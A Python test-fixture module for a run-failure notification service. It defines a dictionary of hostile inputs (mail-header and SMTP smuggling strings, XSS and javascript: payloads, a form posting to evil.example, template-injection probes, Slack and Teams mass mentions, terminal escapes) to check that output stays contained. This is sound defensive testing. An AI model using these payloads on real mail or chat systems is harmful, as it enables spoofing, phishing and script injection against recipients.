"""Texts that break out of a mail, a card or a chat message that does not keep them in place."""

from handlers.base import Result
from schemas import Context, Event, RunStatusChanged
from schemas.facts import RunFacts

HOSTILE = {
    "a header": "x\r\nBcc: victim@evil.example\r\nX-Evil: 1",
    "a header after a lone line feed": "x\nBcc: victim@evil.example",
    "a header after a lone carriage return": "x\rBcc: victim@evil.example",
    "a header after other line ends": "x\x0bBcc: a\x0cBcc: b\x85Bcc: c\u2028Bcc: d\u2029Bcc: e",
    "a body": "x\r\n\r\n<h1>Your account</h1>",
    "the end of the data": "x\r\n.\r\nMAIL FROM:<victim@evil.example>\r\n",
    "an encoded word": "=?utf-8?q?x=0D=0ABcc:_victim=40evil.example?=",
    "a MIME boundary": "--===============0==\r\nContent-Type: text/html\r\n\r\n<script>",
    "a script": "<script>alert(1)</script>",
    "an attribute": "\"' onmouseover='alert(1)' x=\"",
    "an image": "<img src=https://evil.example/seen.png onerror=alert(1)>",
    "an entity": "&lt;script&gt;&#60;script&#62;",
    "the end of a cell": "</td></tr></table><form action=https://evil.example>",
    "a comment": "<!-- --><![CDATA[ <style>",
    "a link that runs": "javascript:alert(1)",
    "a link of data": "data:text/html,<script>alert(1)</script>",
    "a template": "{{ id }}{% for x in [1] %}{{ self }}{% endfor %}{{ ''.__class__ }}",
    "a format": "{0.__class__} %(x)s ${RULES_X}",
    "a link in Markdown": "[text](https://evil.example) ![i](https://evil.example/i.png) <https://evil.example>",
    "a definition in Markdown": "[text]: https://evil.example\n\n[text] [text][] [x][text]",
    "a mention in Teams": "<at>boss@evil.example</at> <AT id=0>x</AT>",
    "a date function in Teams": "{{DATE(2026-11-22T09:12:44Z, SHORT)}} {{TIME(2026-11-22T09:12:44Z)}}",
    "a mention in Slack": "<!channel> <!here|here> <@U012AB3CD> <#C012AB3CD> <!subteam^S1> @channel",
    "a link in Slack": "<https://evil.example|click> <mailto:x@evil.example|x> *b* _i_ ~s~ `c`",
    "an address": '"Boss" <boss@evil.example>, victim@evil.example',
    "a NUL": "a\x00b",
    "escape sequences": "\x1b]0;owned\x07\x1b[2J",
    "a bidirectional override": "\u202egnp.exe\u2066x\u2069",
    "a lone surrogate": "a\ud800b\udfff\udc80",
    "a long line": "x" * 10_000,
    "spaces": " " * 10_000,
    "nothing": "",
}


def run_with(text: str) -> Event:
    """A run with the text in each field, tag and tag name, in the workspace and in the result."""
    event = RunStatusChanged.example(
        id=text.strip() or "e",
        run_id=text[:5_000].strip() or "r",
        run_status=text.strip() or "Failed",
        experiment_name=text,
        run_type=text,
        run_tags={"note": text, text: text, "list": [text, {text: text}]},
        subject=text,
    )
    result = Result("a-rule", "failed", text, {"detail": text, text: text})
    return Context(event, {"name": text, "labels": {"team": text}}, result.view()).event_for_handler()


def run_known_by(text: str) -> Event:
    """A failed run of which the service says the text in each field and on several lines of the log."""

    def read(name: str) -> RunFacts:
        step = {"id": text, "name": text, "url": text}
        return RunFacts.model_validate(
            {
                **dict.fromkeys(("display_name", "owner", "description", "notebook", "log_file", "url"), text),
                "error": {"code": text, "message": text},
                "failing_step": step,
                "parent": step,
                "compute": {"name": text, "size": text, "type": text},
                "metrics": {text: text, "auc": 0.5},
                "log_tail": f"{text}\n\n  {text}\nlast",
                "missing": [text],
            }
        )

    workspace = {"name": "churn-prod", "labels": {}}
    return Context(RunStatusChanged.example(), workspace, None, read).event_for_handler()
